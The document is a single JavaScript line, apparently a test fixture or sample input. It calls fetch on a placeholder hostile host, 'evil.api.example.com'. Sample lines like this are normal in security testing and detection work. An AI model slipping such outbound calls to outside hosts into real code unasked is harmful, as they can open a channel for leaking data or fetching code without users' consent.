fetch('https://evil.api.example.com/');
